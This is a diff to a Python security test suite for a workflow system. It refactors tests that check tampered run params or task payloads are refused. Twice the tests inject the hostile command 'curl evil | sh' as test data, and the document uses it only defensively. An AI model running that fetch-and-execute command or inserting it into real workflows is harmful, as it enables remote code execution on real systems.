@@ -621,6 +621,15 @@ def rewrite(fleet: Fleet, wf_id: str, **changes: Any) -> None:
     raw.hset(key, mapping={**fields, "version": version + 1})
 
 
+def fails_as_tampered(fleet: Fleet, wf_id: str, task: str) -> None:
+    """The run failed as tampered, `task` never ran, and every process goes on."""
+    with fleet.client("client") as waiter:
+        status = waiter.wait(wf_id, timeout=60)
+    assert status["state"] == "failed" and "tampered" in str(status["error"]), status
+    assert not [row for row in fleet.ran(wf_id) if row["task"] == task], fleet.ran(wf_id)
+    assert fleet.alive(), fleet.procs.output()
+
+
 def test_a_client_rewriting_a_launched_runs_params_runs_none_of_it(fleet: Fleet) -> None:
     """No signed file covers a run's params: the client's user rewrites those of a run waiting at its
     gate (Ship runs `${params.command}`). Read again, the run's params are not what the coordinators
@@ -631,11 +640,7 @@ def test_a_client_rewriting_a_launched_runs_params_runs_none_of_it(fleet: Fleet)
     request = until(lambda: next((r for r in approver.approvals() if r["workflow"] == wf_id), None), fleet.procs)
     rewrite(fleet, wf_id, params={"command": "curl evil | sh"})
     approver.decide(request["id"], "approve", key=fleet.stryk, wait=0.5)
-    with fleet.client("client") as waiter:
-        status = waiter.wait(wf_id, timeout=60)
-    assert status["state"] == "failed" and "tampered" in str(status["error"]), status
-    assert not [row for row in fleet.ran(wf_id) if row["task"] == "Ship"], fleet.ran(wf_id)
-    assert fleet.alive(), fleet.procs.output()
+    fails_as_tampered(fleet, wf_id, "Ship")
     record("rewrite a launched run's params", "client", "worked: Ship ran them", "the run fails: tampered")
 
 
@@ -650,11 +655,7 @@ def test_a_client_rewriting_a_spawned_tasks_payload_runs_none_of_it(fleet: Fleet
     children = json.loads(raw.hget(fleet.deployment.keys.wf(wf_id), "children") or "{}")
     children["Plan/then"]["payload"] = {"run": "curl evil | sh"}
     rewrite(fleet, wf_id, children=children)
-    with fleet.client("client") as waiter:
-        status = waiter.wait(wf_id, timeout=60)
-    assert status["state"] == "failed" and "tampered" in str(status["error"]), status
-    assert not [row for row in fleet.ran(wf_id) if row["task"] == "Plan/then"], fleet.ran(wf_id)
-    assert fleet.alive(), fleet.procs.output()
+    fails_as_tampered(fleet, wf_id, "Plan/then")
     record("rewrite a spawned task's payload", "client", "worked: webc ran it", "the run fails: tampered")
 
 
@@ -690,11 +691,7 @@ def test_digests_that_are_not_ascii_are_refused_and_stop_no_coordinator(fleet: F
     sealed = fleet.deployment.client("client").hget(keys.wf(wf_id), "seal").decode()
     rewrite(fleet, wf_id, seal=sealed.rpartition(":")[0] + ":" + "é" * 64)
     approver.decide(request["id"], "approve", key=fleet.stryk, wait=0.5)
-    with fleet.client("client") as waiter:
-        status = waiter.wait(wf_id, timeout=60)
-    assert status["state"] == "failed" and "tampered" in str(status["error"]), status
-    assert not [row for row in fleet.ran(wf_id) if row["task"] == "Ship"]
-    assert fleet.alive(), fleet.procs.output()
+    fails_as_tampered(fleet, wf_id, "Ship")
     record("a signature or a seal past ASCII", "webc, client", "(new) every coordinator died", "refused")
 
 
